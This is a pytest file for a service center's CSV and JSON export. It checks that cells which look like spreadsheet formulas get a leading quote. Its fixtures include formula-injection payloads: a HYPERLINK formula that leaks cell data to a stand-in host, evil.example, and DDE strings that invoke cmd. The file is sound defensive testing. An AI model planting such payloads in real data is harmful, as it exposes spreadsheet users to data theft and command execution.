"""Export cells cannot be spreadsheet formulas (center/export.py), in CSV and
JSON, with the issue's own examples. On SQLite and PostgreSQL."""
import csv
import io
import json
from datetime import datetime

import pytest

from center.api import create_app
from center.export import inert
from center.ingest import ingest
from hallcore.hallclock import DEFAULT_TZ
from tests.support.center import Clock, make_center, make_vote
from tests.support.web import login

VOTED = datetime(2026, 11, 27, 15, 0, tzinfo=DEFAULT_TZ)
COMMENT = '=HYPERLINK("http://evil.example/?leak="&AB2,"点这里")'
STAFF = "=2+5"
MATTER = "-2+3+cmd|' /C calc'!A0"
CASE_NO = "=cmd|' /C calc'!A0"


@pytest.fixture
def app(db_url, tmp_path):
    c = make_center(db_url, tmp_path, clock=Clock(datetime(2026, 11, 30, 10, 0, tzinfo=DEFAULT_TZ)))
    c.add_device("tab-03", "taojiang", "03")
    c.add_user("chen", "supervisor", "chen-pass-1")
    answers = ingest(c, "tab-03", [
        make_vote("tab-03", 1, bad=True, at=VOTED, comment=COMMENT, staff_name=STAFF,
                  matter=("M1", MATTER), case_no=CASE_NO),
        make_vote("tab-03", 2, at=VOTED, staff_name="@SUM(A1:A9)", staff_id="+86",
                  matter=("\tM2", "\r办理"), ticket="-A002"),
        make_vote("tab-03", 3, at=VOTED, staff_name="王-芳", matter=("M3", "a=b")),
    ])
    assert [a["status"] for a in answers] == ["stored"] * 3
    yield create_app(c)
    c.engine.dispose()


def test_csv_cells_that_start_like_a_formula_get_a_leading_quote(app):
    r = login(app, "chen", "chen-pass-1").get("/export.csv?start=2026-11-01&end=2026-11-30")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    first, second, third = sorted(rows, key=lambda x: int(x["seq"]))
    assert first["comment"] == "'" + COMMENT
    assert first["staff_name"] == "'=2+5"
    assert first["matter_name"] == "'" + MATTER
    assert first["办件编号"] == "'" + CASE_NO
    assert first["文字评价"] == "拖拉推诿；" + COMMENT          # the formula is not at the cell's start
    assert (second["staff_name"], second["staff_id"], second["ticket"]) == ("'@SUM(A1:A9)", "'+86", "'-A002")
    assert (second["matter_code"], second["matter_name"]) == ("'\tM2", "'\r办理")
    assert (third["staff_name"], third["matter_name"]) == ("王-芳", "a=b")   # inside a cell: unchanged
    every_cell = [v for row in rows for v in row.values()]
    assert not [v for v in every_cell if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_json_export_is_neutralized_the_same_way(app):
    r = login(app, "chen", "chen-pass-1").get("/export.json?start=2026-11-01&end=2026-11-30")
    recs = sorted(json.loads(r.content)["records"], key=lambda x: x["seq"])
    assert recs[0]["comment"] == "'" + COMMENT and recs[0]["staff_name"] == "'=2+5"
    assert recs[0]["matter_name"] == "'" + MATTER and recs[0]["办件编号"] == "'" + CASE_NO
    assert recs[1]["staff_name"] == "'@SUM(A1:A9)" and recs[1]["matter_code"] == "'\tM2"
    assert recs[0]["seq"] == 1 and recs[0]["满意度代码"] == 4     # numbers stay numbers


def test_inert_rule():
    assert [inert(v) for v in ("=1", "+1", "-1", "@x", "\t", "\rx", "a=1", "", "中文")] == \
        ["'=1", "'+1", "'-1", "'@x", "'\t", "'\rx", "a=1", "", "中文"]
    assert inert(-5) == -5 and inert(None) is None and inert(True) is True
    assert inert(["=a", "b"]) == ["'=a", "b"]
